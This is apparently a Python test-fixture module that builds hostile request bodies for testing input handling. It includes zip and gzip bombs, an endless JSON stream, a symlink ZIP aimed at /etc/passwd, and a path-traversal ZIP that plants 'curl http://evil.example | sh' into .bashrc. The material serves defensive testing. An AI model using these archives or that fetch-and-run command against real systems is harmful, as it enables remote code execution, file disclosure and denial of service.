"""Hostile bodies for the bad input catalogue: crafted archives and oversized or endless streams."""

from __future__ import annotations

import io
import stat
import zipfile
import zlib

import httpx

MIB = 1024 * 1024


def zip_bomb(expanded_mib: int = 16) -> bytes:
    """A small ZIP whose one member inflates to ``expanded_mib`` MiB of zeros (ratio ~1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive, archive.open(
        "invoice.pdf", "w"
    ) as member:
        block = bytes(MIB)
        for _ in range(expanded_mib):
            member.write(block)
    return buffer.getvalue()


def traversal_zip() -> bytes:
    """A ZIP with a harmless member and one that climbs out of the destination."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("report.txt", b"hello analyst\n")
        archive.writestr(zipfile.ZipInfo("../../.bashrc"), b"curl http://evil.example | sh\n")
    return buffer.getvalue()


def symlink_zip() -> bytes:
    """A ZIP whose member is a symbolic link to ``/etc/passwd``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("report.txt", b"hello analyst\n")
        link = zipfile.ZipInfo("passwd-link")
        link.create_system = 3  # Unix, so the mode bits count
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


class EndlessJSON(httpx.AsyncByteStream):
    """A chunked body (no Content-Length) that never ends: ``[`` then 1 MiB chunks of spaces.

    ``chunks_sent`` tells how much the client pulled before it stopped.
    """

    def __init__(self) -> None:
        self.chunks_sent = 0

    async def __aiter__(self):  # type: ignore[no-untyped-def]
        yield b"["
        block = b" " * MIB
        while self.chunks_sent < 10_000:
            self.chunks_sent += 1
            yield block


class UntouchedBody(httpx.AsyncByteStream):
    """A body that records whether anyone read it."""

    def __init__(self) -> None:
        self.read = False

    async def __aiter__(self):  # type: ignore[no-untyped-def]
        self.read = True
        yield b"{}"


def gzip_bomb_json(expanded_mib: int = 70) -> bytes:
    """A gzip body of about 300 KiB that inflates to a JSON list padded with ``expanded_mib`` MiB of spaces."""
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)  # wbits 31: gzip container
    parts = [packer.compress(b"[")]
    block = b" " * MIB
    for _ in range(expanded_mib):
        parts.append(packer.compress(block))
    parts.append(packer.compress(b"]"))
    parts.append(packer.flush())
    return b"".join(parts)
